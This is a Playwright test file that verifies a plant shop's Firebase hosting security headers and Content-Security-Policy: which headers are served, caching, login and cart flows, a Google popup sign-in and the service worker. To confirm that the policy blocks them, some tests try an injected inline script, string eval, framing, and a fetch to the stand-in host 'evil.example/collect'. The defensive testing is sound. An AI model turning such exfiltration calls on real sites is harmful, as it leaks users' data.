// The hosting headers of firebase.json, served by the Firebase Hosting emulator
// from the production build (dist/). Every response carries them; the shop still works under the
// Content-Security-Policy (sign-up, login, logout, the cart) with no violation at all; and the
// policy does stop what it is there to stop (inline script, eval, framing, fetching another site).
// The one inline script, the route preload, runs because the policy names its hash.
// The emulator serves firebase.json's policy plus the Auth emulator's origin (scripts/hosting.mjs);
// since ADR 0024 it is the server of every journey, so these checks read the suite's own server.
// The offline worker (/sw.js) and the pages are revalidated on every load, the hashed
// assets cached for good; the worker registers under the policy and Chromium finds the shop
// installable.
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrowserContext, Page } from '@playwright/test';
import { expect, test, type Shop, type ShopperOptions } from './support/test';
import { AUTH_EMULATOR_URL, ROOT } from '../../scripts/emulator.mjs';
import { emulatorVariant, startHosting } from '../../scripts/hosting.mjs';
import { headersForEveryPath, parseCsp, readFirebaseJson } from '../../scripts/hostingPolicy.mjs';
import { logIn, toast } from './support/accounts';
import { WITH_WORKER, workerInControl } from './support/offline';
import { routeGoogleStandIns, signInThroughGooglePopup } from './support/google';
import {
  addToCart,
  logOut,
  PASSWORD,
  shownCart,
  signUp,
  storedCart,
} from './support/hostingShopper';

/** firebase.json as it is on disk: the production configuration. */
const productionConfig = () => readFirebaseJson(ROOT);

const EXPECTED_HEADERS = [
  'content-security-policy',
  'x-content-type-options',
  'referrer-policy',
  'x-frame-options',
  'permissions-policy',
  'cross-origin-opener-policy',
  'cross-origin-resource-policy',
  'strict-transport-security',
];

interface Violation {
  readonly directive: string;
  readonly blocked: string;
  readonly page: string;
  /** Which policy refused it: the header's (it has frame-ancestors) or the page's own <meta>. */
  readonly policy: 'header' | 'page';
}

/** Records every CSP violation of every page of the context, whatever page it happens on. */
async function recordViolations(context: BrowserContext): Promise<Violation[]> {
  const violations: Violation[] = [];
  await context.exposeFunction('__leafyCspViolation', (violation: Violation) => {
    violations.push(violation);
  });
  // Init scripts are injected by the browser itself: the policy does not apply to them.
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { __leafyCspViolation: (v: Violation) => void }).__leafyCspViolation({
        directive: event.effectiveDirective,
        blocked: event.blockedURI,
        page: location.pathname,
        policy: event.originalPolicy.includes('frame-ancestors') ? 'header' : 'page',
      });
    });
  });
  return violations;
}

async function hostedPage(shop: Shop, options: ShopperOptions = {}) {
  const page = await shop.open(options);
  const violations = await recordViolations(page.context());
  return { page, violations };
}

test.describe('firebase.json hosting headers, served by the hosting emulator', () => {
  const served = headersForEveryPath(emulatorVariant(productionConfig()));

  for (const path of [
    '/',
    '/cart',
    '/plant/1',
    '/no-such-page',
    '/plants.json',
    '/favicon.svg',
    '/sw.js',
    '/manifest.webmanifest',
    '/icons/icon-192.png',
  ]) {
    test(`${path} carries every security header, as firebase.json sets it`, async ({ baseURL }) => {
      const response = await fetch(`${baseURL}${path}`);
      await response.body?.cancel();
      expect(response.status).toBe(200);
      for (const name of EXPECTED_HEADERS) {
        expect(response.headers.get(name), name).toBe(served.get(name));
      }
    });
  }

  for (const path of [
    '/',
    '/index.html',
    '/plants',
    '/plant/1',
    '/sw.js',
    '/plants.json',
    '/manifest.webmanifest',
  ]) {
    test(`${path} is revalidated on every load (Cache-Control: no-cache), so a new version is found`, async ({
      baseURL,
    }) => {
      const response = await fetch(`${baseURL}${path}`);
      await response.body?.cancel();
      expect(response.status).toBe(200);
      expect(response.headers.get('cache-control')).toBe('no-cache');
    });
  }

  // The stylesheet is written into the page since ADR 0020: the hashed files the page
  // names are the entry script and the chunks its route preload lists.
  test('the entry script and the route chunks carry them too, with their own content types (nosniff), and are cached for good (hashed: immutable)', async ({
    baseURL,
  }) => {
    const html = await (await fetch(`${baseURL}/`)).text();
    const assets = [...new Set(html.match(/\/assets\/[^"]+\.(?:js|css)(?=")/g))];
    expect(assets.filter((asset) => asset.startsWith('/assets/index-'))).toHaveLength(1);
    expect(assets.length).toBeGreaterThanOrEqual(2);
    for (const asset of assets) {
      const response = await fetch(`${baseURL}${asset}`);
      await response.body?.cancel();
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(response.headers.get('cache-control'), asset).toBe(
        'public, max-age=31536000, immutable',
      );
      expect(response.headers.get('content-type')).toMatch(
        asset.endsWith('.js') ? /javascript/ : /text\/css/,
      );
    }
  });

  test('serves exactly the production policy plus the Auth emulator origin, and nothing else', async ({
    baseURL,
  }) => {
    const response = await fetch(`${baseURL}/`);
    await response.body?.cancel();
    const production = headersForEveryPath(productionConfig());
    const served = parseCsp(response.headers.get('content-security-policy') ?? '');
    const intended = parseCsp(production.get('content-security-policy') ?? '');
    expect([...served.keys()]).toEqual([...intended.keys()]);
    for (const [name, sources] of intended) {
      const extra = ['connect-src', 'frame-src'].includes(name) ? [AUTH_EMULATOR_URL] : [];
      expect(served.get(name), name).toEqual([...sources, ...extra]);
    }
    for (const name of EXPECTED_HEADERS.filter((header) => header !== 'content-security-policy')) {
      expect(response.headers.get(name), name).toBe(production.get(name));
    }
  });

  test("the production build's one inline script is the route preload, which the policy allows by its hash and nothing else inline", async ({
    baseURL,
  }) => {
    const response = await fetch(`${baseURL}/`);
    const html = await response.text();
    const scriptSources = parseCsp(response.headers.get('content-security-policy') ?? '').get(
      'script-src',
    );
    const hashes = (scriptSources ?? []).filter((source) => source.startsWith("'sha256-"));
    const inline: string[] = [];
    for (const [, attributes, body] of html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)) {
      if (/\bsrc=/.test(attributes!)) {
        expect(attributes).toMatch(/\bsrc="\/assets\//);
        expect(body!.trim()).toBe('');
      } else if (/\btype="application\/(ld\+)?json"/.test(attributes!)) {
        // A data block (the route table; the structured data, JSON-LD): the browser never runs
        // it, whatever it holds.
        expect(() => JSON.parse(body!) as unknown).not.toThrow();
      } else {
        inline.push(`'sha256-${createHash('sha256').update(body!).digest('base64')}'`);
      }
    }
    expect(inline).toHaveLength(1);
    expect(hashes).toEqual(inline);
    expect(html).not.toMatch(/\son[a-z]+=/i);
  });
});

test.describe('the shop under the policy (Chromium, hosting emulator, Auth emulator)', () => {
  test('sign-up, logout, login and the cart all work, with no policy violation', async ({
    shop,
  }) => {
    const { page, violations } = await hostedPage(shop);

    await page.goto('/');
    await page.getByRole('heading', { name: 'Popular Plants' }).waitFor();
    await page.getByTestId('preview-banner').filter({ hasText: 'running' }).waitFor();

    const { email } = await signUp(page, 'csp');
    await logOut(page);
    await logIn(page, { email, password: PASSWORD });

    await addToCart(page, 1);
    await addToCart(page, 2);
    await page.goto('/cart');
    await page.getByRole('region', { name: 'Order Summary' }).waitFor();
    const first = (await shownCart(page))[0]!;
    await page.getByRole('button', { name: `Increase quantity of ${first.name}` }).click();
    await expect.poll(async () => (await storedCart(page))[0]?.quantity).toBe(2);
    await expect.poll(() => shownCart(page)).toEqual(await storedCart(page));

    // A toast is styled (its stylesheet is inserted at run time and must be allowed).
    await page.getByRole('button', { name: `Remove ${first.name} from cart` }).click();
    const removed = toast(page, 'Removed from cart', { containing: true });
    await removed.waitFor();
    const background = await removed.evaluate((element) => {
      const box = element.closest('[role="status"]')?.parentElement ?? element;
      return getComputedStyle(box).backgroundColor;
    });
    expect(background).not.toBe('rgba(0, 0, 0, 0)');

    // Profile: the avatar (the stock one) and the name show.
    await page.goto('/profile');
    await page.getByRole('button', { name: 'Edit Profile' }).waitFor();

    expect(violations).toEqual([]);
  });

  test('the Google popup sign-in works under the policy (api.js and the helper frame allowed)', async ({
    shop,
  }) => {
    const { page, violations } = await hostedPage(shop);
    // Offline, Google's api.js is a stand-in served at its real address (support/google.ts).
    await routeGoogleStandIns(page.context());
    await page.goto('/login');
    const account = await signInThroughGooglePopup(page);
    await toast(page, 'Logged in with Google successfully!', { containing: true }).waitFor();
    await page
      .getByRole('button', { name: new RegExp(`${account.displayName}.*account menu`) })
      .waitFor();
    expect(violations).toEqual([]);
  });

  test('the offline worker registers under the policy (worker-src), and Chromium finds the shop installable', async ({
    baseURL,
    shop,
  }) => {
    const { page, violations } = await hostedPage(shop, { context: WITH_WORKER });
    await page.goto('/');
    await page.getByRole('heading', { name: 'Popular Plants' }).waitFor();
    expect(await workerInControl(page)).toBe(`${baseURL}/sw.js`);

    const cdp = await page.context().newCDPSession(page);
    const manifest = (await cdp.send('Page.getAppManifest')) as {
      url: string;
      errors: { message: string }[];
    };
    expect(manifest.url).toBe(`${baseURL}/manifest.webmanifest`);
    expect(manifest.errors).toEqual([]);
    const installable = (await cdp.send('Page.getInstallabilityErrors')) as {
      installabilityErrors: { errorId: string }[];
    };
    // Playwright's browser contexts are off the record, which Chromium reports as 'in-incognito';
    // its DevTools check goes on to report every other error (manifest, icons, start_url, scope).
    expect(
      installable.installabilityErrors
        .map((error) => error.errorId)
        .filter((errorId) => errorId !== 'in-incognito'),
    ).toEqual([]);
    await cdp.detach();
    expect(violations).toEqual([]);
  });

  test('the policy stops inline script, eval and requests to other sites', async ({ shop }) => {
    const { page, violations } = await hostedPage(shop, {
      allowConsoleErrors: [/Content Security Policy/, /Failed to fetch/, /ERR_BLOCKED/],
    });
    await page.goto('/');
    await page.getByRole('heading', { name: 'Popular Plants' }).waitFor();

    await page.addScriptTag({ content: 'window.__inlineRan = true;' }).catch(() => undefined);
    expect(await page.evaluate(() => 'inlineRan' in window || '__inlineRan' in window)).toBe(false);

    const timer = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          try {
            // A string handed to a timer is eval: blocked without 'unsafe-eval'.
            (setTimeout as unknown as (code: string, ms: number) => number)(
              'window.__timerRan = true',
              0,
            );
          } catch (error) {
            resolve(`threw ${(error as Error).name}`);
            return;
          }
          setTimeout(() => resolve('__timerRan' in window ? 'ran' : 'blocked'), 50);
        }),
    );
    expect(timer).not.toBe('ran');

    const fetched = await page.evaluate(() =>
      fetch('https://evil.example/collect').then(
        () => 'reached',
        (error: Error) => error.name,
      ),
    );
    expect(fetched).toBe('TypeError');

    // Each refused twice: by the header's policy, and by the page's own, which a host that sends
    // no headers still serves.
    await expect
      .poll(() =>
        violations.map((violation) => `${violation.directive} by the ${violation.policy}`).sort(),
      )
      .toEqual([
        'connect-src by the header',
        'connect-src by the page',
        'script-src by the header',
        'script-src by the page',
        'script-src-elem by the header',
        'script-src-elem by the page',
      ]);
    expect(violations.find((v) => v.directive === 'connect-src')?.blocked).toMatch(
      /^https:\/\/evil\.example/,
    );
  });

  // The header allows inline styles (a static file cannot know the hash of
  // the stylesheet each build writes into index.html); the page's own policy allows that
  // stylesheet by its hash and nothing else, so a style added later is refused.
  test('the page’s own policy refuses an inline style it did not ship; the shop’s own applies', async ({
    shop,
  }) => {
    const { page, violations } = await hostedPage(shop, {
      allowConsoleErrors: [/Content Security Policy/],
    });
    await page.goto('/');
    await page.getByRole('heading', { name: 'Popular Plants' }).waitFor();
    expect(await page.evaluate(() => getComputedStyle(document.body).backgroundColor)).not.toBe(
      'rgba(0, 0, 0, 0)',
    );

    const applied = await page.evaluate(() => {
      const style = document.createElement('style');
      style.textContent = 'body { outline: 7px solid rgb(255, 0, 0); }';
      document.head.append(style);
      return getComputedStyle(document.body).outlineWidth;
    });
    expect(applied).not.toBe('7px');
    await expect
      .poll(() =>
        violations.map((violation) => `${violation.directive} by the ${violation.policy}`),
      )
      .toEqual(['style-src-elem by the page']);
  });

  test('another site cannot frame the shop (frame-ancestors, X-Frame-Options)', async ({
    shop,
    baseURL,
  }) => {
    // The framing page is a blank page: another origin (an opaque one) with no policy of its own.
    // (A page routed in at another address would not do: Chromium treats it as a public site,
    // whose frames may not reach the loopback address at all, so nothing would be left to check.)
    const page: Page = await shop.open({ allowConsoleErrors: [/frame-ancestors|X-Frame-Options/] });
    const messages: string[] = [];
    page.on('console', (message) => messages.push(message.text()));
    // The frame's load event fires once the browser has settled what the frame shows (its own
    // error page when framing is refused), so the checks below wait for that, not for a time.
    await page.evaluate(
      (src) =>
        new Promise<void>((resolve) => {
          const frame = document.createElement('iframe');
          frame.addEventListener('load', () => resolve(), { once: true });
          frame.src = src;
          frame.title = 'framed shop';
          document.body.append(frame);
        }),
      `${baseURL}/`,
    );
    const framed = page.frames().find((frame) => frame !== page.mainFrame());
    expect(framed).toBeDefined();
    // The shop never ran inside the frame: the browser shows its own error page there.
    expect(framed!.url()).not.toBe(`${baseURL}/`);
    expect(
      await framed!
        .locator('#root')
        .count()
        .catch(() => 0),
    ).toBe(0);
    // Refused for the reason under test.
    await expect
      .poll(() => messages.some((text) => text.includes("frame-ancestors 'none'")))
      .toBe(true);
  });
});

// What later checks build on: hosting restarted with a changed header, then with another build,
// and each served at the same origin (a page's service worker and storage stay theirs).
test.describe('the hosting emulator restarted (scripts/hosting.mjs)', () => {
  test('serves a changed header, then another build folder, on the same origin, without a rebuild', async () => {
    const otherBuild = mkdtempSync(join(tmpdir(), 'leafy-other-build-'));
    writeFileSync(join(otherBuild, 'index.html'), '<!doctype html><title>Another build</title>');
    const hosting = await startHosting();
    const frameOptions = async (path: string) => {
      const response = await fetch(`${hosting.url}${path}`);
      return { header: response.headers.get('x-frame-options'), page: await response.text() };
    };
    try {
      const url = hosting.url;
      expect(await frameOptions('/plants')).toMatchObject({ header: 'DENY' });

      await hosting.restart({
        configure: (config) => ({
          ...config,
          hosting: {
            ...config.hosting,
            headers: config.hosting.headers?.map((rule) => ({
              ...rule,
              headers: rule.headers.map(({ key, value }) => ({
                key,
                value: key === 'X-Frame-Options' ? 'SAMEORIGIN' : value,
              })),
            })),
          },
        }),
      });
      expect(hosting.url).toBe(url);
      const changed = await frameOptions('/plants');
      expect(changed.header).toBe('SAMEORIGIN');
      expect(changed.page).toContain('<div id="root">');

      await hosting.restart({ dir: otherBuild });
      expect(hosting.url).toBe(url);
      expect(await frameOptions('/plants')).toEqual({
        header: 'SAMEORIGIN',
        page: '<!doctype html><title>Another build</title>',
      });
    } finally {
      await hosting.stop();
      rmSync(otherBuild, { recursive: true, force: true });
    }
  });
});
